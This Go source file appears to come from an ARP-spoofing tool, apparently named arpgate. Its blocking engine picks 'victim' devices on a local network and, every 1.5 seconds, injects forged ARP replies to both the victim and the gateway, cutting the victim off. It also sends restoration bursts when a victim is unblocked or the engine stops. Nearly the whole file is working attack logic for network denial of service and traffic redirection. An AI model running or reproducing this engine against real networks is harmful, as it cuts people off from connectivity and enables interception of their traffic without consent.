package blocking

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/arpgate/arpgate/internal/adapters/capture"
	"github.com/arpgate/arpgate/internal/core/domain"
	"github.com/arpgate/arpgate/internal/core/ports"
	"github.com/arpgate/arpgate/internal/telemetry"
)

// Common errors
var (
	ErrGatewayRequired = errors.New("gateway device is required")
	ErrUnknownDevice   = errors.New("device is not in the table")
)

// Options are the poison/restore tunables.
type Options struct {
	// SpoofInterval is the cadence of the periodic poison loop.
	SpoofInterval time.Duration
	// RestoreCount is the number of restoration rounds per removal.
	RestoreCount int
	// RestoreGap is the pause between restoration rounds.
	RestoreGap time.Duration
}

// DefaultOptions returns the stock cadence: poison every 1.5 s, restore in
// five rounds 100 ms apart.
func DefaultOptions() Options {
	return Options{
		SpoofInterval: 1500 * time.Millisecond,
		RestoreCount:  5,
		RestoreGap:    100 * time.Millisecond,
	}
}

// Engine maintains the set of blocked victims and keeps their caches (and
// the gateway's) poisoned until each one is unblocked or the engine stops.
// Removal is always paired with a restoration burst: the engine never exits
// leaving a victim cut off.
type Engine struct {
	binding  domain.InterfaceBinding
	gateway  domain.Device
	injector ports.FrameInjector
	table    deviceTable
	opts     Options

	mu      sync.Mutex
	blocked map[string]*domain.BlockedDeviceInfo
	running bool
	cancel  context.CancelFunc
	done    chan struct{}
	logger  ports.Logger
}

// deviceTable is the slice of the registry the engine mutates.
type deviceTable interface {
	Get(mac string) (domain.Device, bool)
	SetBlocked(mac string, blocked bool) bool
}

// NewEngine creates the blocking engine. The gateway must already be
// resolved; without it there is nothing to poison against and the run
// cannot proceed.
func NewEngine(binding domain.InterfaceBinding, gateway domain.Device, injector ports.FrameInjector, table deviceTable, opts Options) (*Engine, error) {
	if len(gateway.MAC) != 6 || gateway.IP.To4() == nil {
		return nil, ErrGatewayRequired
	}
	if opts.SpoofInterval <= 0 {
		opts.SpoofInterval = DefaultOptions().SpoofInterval
	}
	if opts.RestoreCount <= 0 {
		opts.RestoreCount = DefaultOptions().RestoreCount
	}
	if opts.RestoreGap <= 0 {
		opts.RestoreGap = DefaultOptions().RestoreGap
	}
	return &Engine{
		binding:  binding,
		gateway:  gateway,
		injector: injector,
		table:    table,
		opts:     opts,
		blocked:  make(map[string]*domain.BlockedDeviceInfo),
	}, nil
}

// SetLogger sets the callback for UI event lines.
func (e *Engine) SetLogger(logger ports.Logger) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.logger = logger
}

func (e *Engine) log(message, level string) {
	e.mu.Lock()
	logger := e.logger
	e.mu.Unlock()
	if logger != nil {
		logger(message, level)
	}
}

// Start launches the periodic spoof task. Idempotent.
func (e *Engine) Start() {
	e.mu.Lock()
	if e.running {
		e.mu.Unlock()
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	e.running = true
	e.cancel = cancel
	e.done = make(chan struct{})
	done := e.done
	e.mu.Unlock()

	go e.spoofLoop(ctx, done)
	e.log("Blocking engine started", "system")
}

// spoofLoop re-poisons every blocked victim on each tick. Injection errors
// are logged per victim; the loop itself never aborts on them.
func (e *Engine) spoofLoop(ctx context.Context, done chan struct{}) {
	defer close(done)

	ticker := time.NewTicker(e.opts.SpoofInterval)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			for _, victim := range e.snapshotBlocked() {
				e.poisonPair(victim)
			}
		}
	}
}

// snapshotBlocked copies the blocked set so the loop never iterates the live
// map while Block/Unblock mutate it.
func (e *Engine) snapshotBlocked() []domain.BlockedDeviceInfo {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]domain.BlockedDeviceInfo, 0, len(e.blocked))
	for _, info := range e.blocked {
		out = append(out, *info)
	}
	return out
}

// Block inserts the device into the blocked set and immediately poisons both
// directions, so the victim loses the gateway before the first tick.
// Blocking the gateway is rejected with a log line; repeat blocks are no-ops.
func (e *Engine) Block(device domain.Device) error {
	if device.IsGateway || bytes.Equal(device.MAC, e.gateway.MAC) {
		e.log(fmt.Sprintf("Refusing to block the gateway (%s)", e.gateway.IP), "warning")
		return nil
	}

	key := device.Key()
	stored, ok := e.table.Get(key)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownDevice, key)
	}

	e.mu.Lock()
	if _, exists := e.blocked[key]; exists {
		e.mu.Unlock()
		e.log(fmt.Sprintf("Device %s is already blocked", stored.IP), "info")
		return nil
	}
	e.blocked[key] = &domain.BlockedDeviceInfo{
		IP:        append(net.IP(nil), stored.IP...),
		MAC:       append(net.HardwareAddr(nil), stored.MAC...),
		BlockedAt: time.Now(),
	}
	e.table.SetBlocked(key, true)
	info := *e.blocked[key]
	e.mu.Unlock()

	e.poisonPair(info)
	e.log(fmt.Sprintf("Blocking %s (%s)", stored.IP, stored.MAC), "danger")
	return nil
}

// Unblock removes the device from the blocked set and runs the restoration
// burst before returning. Unblocking an unknown device is a no-op.
func (e *Engine) Unblock(ctx context.Context, device domain.Device) error {
	key := device.Key()

	e.mu.Lock()
	info, exists := e.blocked[key]
	if !exists {
		e.mu.Unlock()
		return nil
	}
	delete(e.blocked, key)
	e.table.SetBlocked(key, false)
	victim := *info
	e.mu.Unlock()

	e.restoreBurst(ctx, victim)
	e.log(fmt.Sprintf("Unblocked %s (%s)", victim.IP, victim.MAC), "success")
	return nil
}

// Stop cancels the spoof task, restores every still-blocked victim, clears
// the set and waits for the task to exit. Idempotent.
func (e *Engine) Stop() {
	e.mu.Lock()
	if !e.running {
		e.mu.Unlock()
		return
	}
	e.running = false
	cancel := e.cancel
	done := e.done
	e.cancel = nil
	e.done = nil

	victims := make([]domain.BlockedDeviceInfo, 0, len(e.blocked))
	for key, info := range e.blocked {
		victims = append(victims, *info)
		e.table.SetBlocked(key, false)
	}
	e.blocked = make(map[string]*domain.BlockedDeviceInfo)
	e.mu.Unlock()

	cancel()
	<-done

	for _, victim := range victims {
		e.restoreBurst(context.Background(), victim)
	}
	if len(victims) > 0 {
		e.log(fmt.Sprintf("Restored %d victim(s) on shutdown", len(victims)), "system")
	}
	e.log("Blocking engine stopped", "system")
}

// poisonPair sends the two spoofed replies for one victim: the victim learns
// the gateway at our MAC, the gateway learns the victim at our MAC. The
// victim's packet counter advances by the number of frames delivered.
func (e *Engine) poisonPair(victim domain.BlockedDeviceInfo) {
	sent := int64(0)

	toVictim, err := capture.SerializePoisonReply(e.binding.OwnMAC, e.gateway.IP, victim.MAC, victim.IP)
	if err == nil {
		err = e.injector.Inject(toVictim)
	}
	if err != nil {
		e.log(fmt.Sprintf("Poison to victim %s failed: %v", victim.IP, err), "warning")
	} else {
		telemetry.PoisonFramesSent.WithLabelValues("victim").Inc()
		sent++
	}

	toGateway, err := capture.SerializePoisonReply(e.binding.OwnMAC, victim.IP, e.gateway.MAC, e.gateway.IP)
	if err == nil {
		err = e.injector.Inject(toGateway)
	}
	if err != nil {
		e.log(fmt.Sprintf("Poison to gateway for %s failed: %v", victim.IP, err), "warning")
	} else {
		telemetry.PoisonFramesSent.WithLabelValues("gateway").Inc()
		sent++
	}

	if sent > 0 {
		e.mu.Lock()
		if info, ok := e.blocked[domain.NormalizeMAC(victim.MAC.String())]; ok {
			info.PacketsSent += sent
		}
		e.mu.Unlock()
	}
}

// restoreBurst re-teaches the true MACs on both sides. Restoration races the
// victim's stale cache entry, so the pair is repeated RestoreCount times,
// RestoreGap apart. Injection failures are logged and the burst continues.
func (e *Engine) restoreBurst(ctx context.Context, victim domain.BlockedDeviceInfo) {
	for round := 0; round < e.opts.RestoreCount; round++ {
		toVictim, err := capture.SerializeRestoreReply(e.binding.OwnMAC, e.gateway.MAC, e.gateway.IP, victim.MAC, victim.IP)
		if err == nil {
			err = e.injector.Inject(toVictim)
		}
		if err != nil {
			e.log(fmt.Sprintf("Restore to victim %s failed: %v", victim.IP, err), "warning")
		} else {
			telemetry.RestoreFramesSent.Inc()
		}

		toGateway, err := capture.SerializeRestoreReply(e.binding.OwnMAC, victim.MAC, victim.IP, e.gateway.MAC, e.gateway.IP)
		if err == nil {
			err = e.injector.Inject(toGateway)
		}
		if err != nil {
			e.log(fmt.Sprintf("Restore to gateway for %s failed: %v", victim.IP, err), "warning")
		} else {
			telemetry.RestoreFramesSent.Inc()
		}

		if round < e.opts.RestoreCount-1 {
			if !sleep(ctx, e.opts.RestoreGap) {
				return
			}
		}
	}
}

// sleep waits for d or until ctx is cancelled. The cancelled outcome is a
// normal result, not an error.
func sleep(ctx context.Context, d time.Duration) bool {
	select {
	case <-ctx.Done():
		return false
	case <-time.After(d):
		return true
	}
}

// Blocked returns a snapshot of the blocked set for display.
func (e *Engine) Blocked() []domain.BlockedDeviceInfo {
	return e.snapshotBlocked()
}

// BlockedCount returns the number of currently blocked victims.
func (e *Engine) BlockedCount() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return len(e.blocked)
}

// Gateway returns the resolved gateway device.
func (e *Engine) Gateway() domain.Device {
	return e.gateway
}

// Running reports whether the spoof task is active.
func (e *Engine) Running() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.running
}
